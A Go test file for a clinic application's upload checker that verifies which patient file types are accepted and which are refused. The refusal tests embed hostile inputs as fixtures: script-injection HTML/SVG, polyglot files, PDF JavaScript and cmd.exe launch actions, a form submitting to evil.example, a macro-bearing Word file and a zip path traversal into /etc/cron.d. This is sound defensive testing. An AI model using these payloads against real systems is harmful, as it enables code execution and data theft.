package upload_test

import (
	"bytes"
	"context"
	"image"
	"image/jpeg"
	"image/png"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/zapis-clinic/zapis/core"
	"github.com/zapis-clinic/zapis/core/upload"
)

func picture(t *testing.T, encode func(*bytes.Buffer, image.Image) error) []byte {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, encode(&out, image.NewRGBA(image.Rect(0, 0, 30, 20))))
	return out.Bytes()
}

func pngOf(t *testing.T) []byte {
	t.Helper()
	return picture(t, func(w *bytes.Buffer, i image.Image) error { return png.Encode(w, i) })
}

func jpegOf(t *testing.T) []byte {
	t.Helper()
	return picture(t, func(w *bytes.Buffer, i image.Image) error { return jpeg.Encode(w, i, nil) })
}

const smallPDF = "%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n" +
	"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>> endobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000057 00000 n \n" +
	"0000000114 00000 n \ntrailer <</Size 4 /Root 1 0 R>>\nstartxref\n180\n%%EOF\n"

func ftyp(brand, more string) []byte {
	return []byte("\x00\x00\x00\x18ftyp" + brand + "\x00\x00\x00\x00" + more)
}

func refusal(t *testing.T, data []byte) string {
	t.Helper()
	_, err := upload.Checker{}.Check(context.Background(), data)
	if err == nil {
		return ""
	}
	require.NotNil(t, core.Refusal(err), err)
	return core.Refusal(err).Key
}

func TestFilesThatPatientsSendAreTakenForWhatTheyAre(t *testing.T) {
	t.Parallel()
	for want, data := range map[upload.Kind][]byte{
		upload.PNG: pngOf(t), upload.JPEG: jpegOf(t), upload.PDF: []byte(smallPDF),
		upload.WEBP: []byte("RIFF\x1a\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\x1d\x00\x00\x13\x00\x00"),
		upload.HEIC: ftyp("heic", "mif1heic\x00\x00\x00\x14ispe\x00\x00\x00\x00\x00\x00\x0f\xc0\x00\x00\x0b\xd0"),
		upload.MP4:  ftyp("isom", "isommp42"), upload.OGG: []byte("OggS\x00\x02OpusHead"),
		upload.Word: zipped(t, entries{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}),
		upload.Calc: zipped(t, entries{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}),
		upload.Text: []byte("\ufeffАнализ крови: гемоглобин < 120 г/л\r\n"),
	} {
		kind, err := upload.Checker{}.Check(t.Context(), data)
		require.NoError(t, err, want)
		require.Equal(t, want, kind)
	}
}

func TestV13WhatABrowserCouldRunIsNotTaken(t *testing.T) {
	t.Parallel()
	for name, data := range map[string][]byte{
		"html":                   []byte("<!DOCTYPE html><script>alert(1)</script>"),
		"html after blanks":      []byte("\ufeff \n\t<HTML><body onload=alert(1)>"),
		"svg":                    []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"svg in a text":          []byte("hello <SVG onload=alert(1)>"),
		"xml":                    []byte(`<?xml version="1.0"?><svg/>`),
		"a program":              []byte("MZ\x90\x00\x03"),
		"an elf":                 []byte("\x7fELF\x02\x01\x01"),
		"a plain archive":        zipped(t, entries{"a.txt": "hello"}),
		"a gif":                  []byte("GIF89a\x01\x00\x01\x00"),
		"nothing":                nil,
		"binary":                 {0, 1, 2, 3},
		"utf-16":                 []byte("\xff\xfeh\x00i\x00"),
		"a picture and a page":   append(pngOf(t), "<script>alert(1)</script>"...),
		"a photo and a page":     append(jpegOf(t), "<html><script>alert(1)</script>"...),
		"a photo and an archive": append(jpegOf(t), zipped(t, entries{"a.class": "x"})...),
		"a picture, an archive":  append(pngOf(t), zipped(t, entries{"a.class": "x"})...),
		"a photo and a document": append(jpegOf(t)[:20], smallPDF...),
		"a document and a page":  []byte("%PDF-1.4 <html><script>alert(1)</script>\n%%EOF"),
		"a late document":        []byte("GARBAGE" + smallPDF + "\x00"),
		"a film that is a page":  ftyp("isom", "<script>alert(1)</script>"),
		"half a picture":         pngOf(t)[:40],
		"half a photo":           jpegOf(t)[:8],
		"half a document":        []byte(smallPDF[:60]),
	} {
		require.Contains(t, []string{"file_kind", "file_unsafe"}, refusal(t, data), name)
	}
}

func TestV13ADocumentThatRunsIsNotTaken(t *testing.T) {
	t.Parallel()
	for name, part := range map[string]string{
		"a script":          "/OpenAction <</S /JavaScript /JS (app.alert(1))>>",
		"a hidden script":   "/OpenAction <</S /J#61va#53cript /JS (app.alert(1))>>",
		"a program":         "/OpenAction <</S /Launch /F (cmd.exe)>>",
		"a file in it":      "/Names <</EmbeddedFiles 7 0 R>>",
		"a document in it":  "/Type /EmbeddedFile",
		"a filter on two":   "/Filter [/FlateDecode /FlateDecode]",
		"a filter on three": "/Filter [ /ASCII85Decode /FlateDecode/LZWDecode ]",
		"a form that sends": "/A <</S /SubmitForm /F (http://evil.example)>>",
	} {
		data := "%PDF-1.4\n1 0 obj <</Type /Catalog " + part + ">> endobj\n%%EOF"
		require.Equal(t, "file_unsafe", refusal(t, []byte(data)), name)
		packed := append([]byte("%PDF-1.5\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n"), deflated(t, []byte(part+" "))...)
		require.Equal(t, "file_unsafe", refusal(t, append(packed, "\nendstream\n%%EOF"...)), name)
	}
	require.Empty(t, refusal(t, []byte("%PDF-1.4\n1 0 obj <</Filter [/ASCII85Decode /FlateDecode] /Next <</Filter /FlateDecode>>>> endobj\n%%EOF")))
	require.Equal(t, "file_unsafe", refusal(t, zipped(t, entries{"[Content_Types].xml": "", "word/document.xml": "", "word/vbaProject.bin": "x"})))
	require.Equal(t, "file_unsafe", refusal(t, zipped(t, entries{"[Content_Types].xml": "", "word/document.xml": "", "../../etc/cron.d/x": "x"})))
	require.Equal(t, "file_unsafe", refusal(t, zipped(t, entries{"[Content_Types].xml": "", "word/document.xml": "", "word/media/a.bin": "PK\x03\x04"})))
}
